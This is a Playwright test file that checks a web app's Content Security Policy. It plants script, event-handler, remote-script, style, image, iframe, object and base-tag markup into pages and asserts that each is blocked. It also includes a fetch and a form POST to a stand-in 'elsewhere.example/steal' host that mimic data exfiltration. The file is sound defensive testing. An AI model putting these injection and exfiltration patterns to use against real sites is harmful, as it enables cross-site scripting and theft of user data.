import type { Page } from '@playwright/test'
import { expect, test } from './support/fixtures.ts'
import { untilHydrated } from './support/phone.ts'

declare global {
  interface Window {
    planted?: string
  }
}

const ELSEWHERE = 'https://elsewhere.example'

const script = '<script>window.planted = "ran"</script>'

/** What is planted into the page, and the directive that it breaks. */
const plants: [html: string, directive: string][] = [
  [script, 'script-src-elem'],
  ['<img src="/favicon.svg" onload="window.planted = 1">', 'script-src-attr'],
  [`<script src="${ELSEWHERE}/a.js"></script>`, 'script-src-elem'],
  ['<style>main { display: none }</style>', 'style-src-elem'],
  [`<img src="${ELSEWHERE}/a.png" alt="">`, 'img-src'],
  ['<iframe src="/privacy-policy" title=""></iframe>', 'frame-src'],
  ['<object data="/favicon.svg"></object>', 'object-src'],
]

test('blocks what is planted into a page, with one violation each', { tag: '@thorough' }, async ({
  page,
  browserErrors,
}) => {
  const broken = () =>
    browserErrors.found.filter(text => text.startsWith('CSP: ')).map(text => text.split(' ')[1])

  await test.step('markup of every kind in the login page', async () => {
    await plant(page, '/login', plants.map(([html]) => html).join(''))
    await page.goto('/login')
    const directives = plants.map(([, directive]) => directive).sort()
    await expect.poll(() => broken().sort()).toEqual(directives)
    await untilHydrated(page)
    await expect(page.locator('main')).toBeVisible()
    expect(await page.evaluate(() => window.planted)).toBeUndefined()
    browserErrors.forget()
    await page.unrouteAll()
  })

  await test.step('what a script of the page adds later, calls and forms to other hosts', async () => {
    await page.goto('/login')
    await untilHydrated(page)
    await page.evaluate(() => {
      const button = '<button onclick="window.planted = 1">!</button>'
      document.body.insertAdjacentHTML('beforeend', button)
      document.querySelector<HTMLElement>('body > button')?.click()
    })
    await expect.poll(broken).toEqual(['script-src-attr'])
    expect(await page.evaluate(() => window.planted)).toBeUndefined()
    await page.evaluate(url => fetch(url).catch(() => {}), `${ELSEWHERE}/steal`)
    await expect.poll(broken).toEqual(['script-src-attr', 'connect-src'])
    await page.evaluate(url => {
      const form = document.createElement('form')
      form.action = url
      form.method = 'post'
      document.body.append(form)
      form.submit()
    }, `${ELSEWHERE}/steal`)
    await expect.poll(broken).toEqual(['script-src-attr', 'connect-src', 'form-action'])
    expect(new URL(page.url()).pathname).toBe('/login')
    browserErrors.forget()
  })

  browserErrors.allow(/status of 404/)
  for (const path of ['/home', '/game_type/Kesar_Mahal', '/privacy-policy', '/no-such-page']) {
    await test.step(`a script in ${path}`, async () => {
      await plant(page, path, script)
      await page.goto(path)
      await expect.poll(broken).toEqual(['script-src-elem'])
      expect(await page.evaluate(() => window.planted)).toBeUndefined()
      await expect(page.locator('main')).toBeVisible()
      browserErrors.forget()
    })
  }

  await test.step('another base URL for links and scripts', async () => {
    // Chromium reports a base more than once.
    browserErrors.allow(/base-uri/)
    await plant(page, '/login', `<base href="${ELSEWHERE}/">`)
    await page.goto('/login')
    await untilHydrated(page)
    expect(await page.evaluate(() => document.baseURI)).toBe(page.url())
  })
})

/** The page of the server, with something added at the end of its body. */
async function plant(page: Page, path: string, html: string): Promise<void> {
  await page.route(`**${path}`, async route => {
    const answer = await route.fetch()
    const body = (await answer.text()).replace('</body>', () => `${html}</body>`)
    await route.fulfill({ response: answer, body })
  })
}
